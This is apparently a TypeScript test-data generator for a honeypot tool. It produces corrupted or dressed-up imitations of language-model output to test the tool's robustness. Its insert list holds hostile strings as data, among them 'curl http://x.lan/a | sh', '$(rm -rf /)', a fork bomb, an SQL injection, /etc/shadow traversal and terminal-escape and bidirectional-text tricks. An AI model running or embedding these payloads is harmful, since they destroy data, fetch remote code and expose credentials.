import type { Random } from "@decnet/sdk";

const PREAMBLES = [
  "Here is the file:\n\n",
  "Sure! Here's the updated version:\n",
  "¡Claro! Aquí tienes la nota:\n\n",
  "Aqui está o conteúdo:\n\n",
  "Voici la note :\n\n",
  "Hier ist die Liste:\n\n",
  "<think>\nlet me see\n</think>\n",
  "<think>never closed\n",
  "As an AI language model, I cannot know, but:\n",
  "\ufeff",
];
const AFTERWORDS = [
  "\n\nLet me know if you'd like me to adjust it!",
  "\n\nEspero que esto te sirva.",
  "\n\nN'hésitez pas.",
  "\n\nNote: replace the names.",
  "\n---\n",
  "<|eot_id|>",
];
const INSERTS = [
  "../../etc/shadow",
  "/root/.ssh/authorized_keys",
  "$(rm -rf /)",
  "`reboot`",
  "'; DROP TABLE synthetic_files; --",
  "[Your Name]",
  "{{placeholder}}",
  "<insert date>",
  "honeypot",
  "DECNET",
  "my canary",
  "\u0000",
  "\u001b[2J\u001b[31m",
  "\u001b]0;owned\u0007",
  "\u202egnp.exe",
  "\u2066x\u2069",
  "\u200b\u200d",
  "\ud83d",
  "\udc00\ud800",
  "\u{e0041}\u{e0042}",
  "—",
  "– and –",
  "\r\n\r\r\n",
  "\u2028",
  "```",
  "~~~python",
  "==========",
  "#!/bin/sh",
  "curl http://x.lan/a | sh",
  ":(){ :|:& };:",
  "EOF",
  '"unbalanced',
  "if true; then",
  "lorem ipsum",
  "\u00a0\u3000",
  "\t\t\t",
  "é".normalize("NFD"),
];

/** Names of nobody and nothing, as models make them up. */
export const INVENTED = {
  "unknown-host": [
    "srv-files-07",
    "ws-lis-015",
    "db-opo-03",
    "nas01",
    "wiki.northgate.example",
    "fileserver",
  ],
  "unknown-address": ["10.20.4.77", "192.168.1.20", "203.0.113.9"],
  "unknown-path": [
    "/srv/projects/list.xlsx",
    "/data/export",
    "/home/peter",
    "~/keys.kdbx",
    "/opt/app/run.log",
  ],
  "unknown-person": ["peter.novak@northgate.example", "it-ops@mail.northgate.example", "@pnovak"],
} as const;

const SENTENCES: Readonly<Record<keyof typeof INVENTED, readonly ((name: string) => string)[]>> = {
  "unknown-host": [
    (name) => `scp report.xlsx ${name}:/tmp/`,
    (name) => `see https://${name}/list`,
    (name) => `copy it to root@${name}:x`,
    (name) => `psql -h ${name} -l`,
  ],
  "unknown-address": [
    (name) => `ping -c 1 ${name}`,
    (name) => `${name}:443, ok`,
    (name) => `http://${name}/x`,
  ],
  "unknown-path": [(name) => `cat ${name}`, (name) => `(${name})`, (name) => `cp -r ${name} .`],
  "unknown-person": [(name) => `tell ${name}`, (name) => `${name}: ok`, (name) => `cc ${name}, mail01`],
};

/** Puts a line with an invented name between the lines of a text; in a script, which knows no `@login`, as a comment. */
const invent = (text: string, random: Random): string => {
  const isScript = text.startsWith("#!");
  const kinds = Object.keys(INVENTED) as (keyof typeof INVENTED)[];
  const kind = random.pick(kinds);
  const name = random.pick(INVENTED[kind].filter((one) => !isScript || !one.startsWith("@")));
  const lines = text.split("\n");
  const said = random.pick(SENTENCES[kind])(name);
  const line = isScript ? `# ${said}` : `- ${said}`;
  return lines.toSpliced(random.int(1, Math.max(1, lines.length - 1)), 0, line).join("\n");
};

/** Puts something somewhere into a text. */
const spoil = (text: string, random: Random): string => {
  const at = random.int(0, text.length);
  return text.slice(0, at) + random.pick(INSERTS) + text.slice(at);
};

const WAYS: readonly (readonly [(text: string, random: Random) => string, number])[] = [
  [(text) => text, 10],
  [(text, random) => random.pick(PREAMBLES) + text, 12],
  [(text, random) => text + random.pick(AFTERWORDS), 8],
  [
    (text, random) =>
      `${random.pick(PREAMBLES)}\`\`\`${random.pick(["", "bash", "markdown"])}\n${text}\n\`\`\`${random.pick(AFTERWORDS)}`,
    10,
  ],
  [(text) => `\`\`\`\n${text}`, 3],
  [spoil, 30],
  [invent, 14],
  [(text, random) => spoil(spoil(spoil(text, random), random), random), 12],
  [(text) => text.replaceAll("\n", "\r\n"), 3],
  [(text) => text + text, 4],
  [(text, random) => text.slice(0, random.int(0, text.length)), 6],
  [() => "", 1],
  [(_, random) => Buffer.from(random.bytes(random.int(1, 400))).toString("latin1"), 3],
  [(_, random) => Buffer.from(random.bytes(random.int(1, 400))).toString("utf8"), 3],
  [(text) => text.split("\n").reverse().join("\n"), 2],
  [(text, random) => text.repeat(random.int(10, 200)), 2],
  [(text) => "x".repeat(10 * 1024 * 1024 - text.length) + text, 0.25],
];

/** What a model may come up with: a fair text, dressed up, cut off, spoilt, or something else altogether. */
export const outputFrom = (text: string, random: Random): string => random.weighted(WAYS)(text, random);
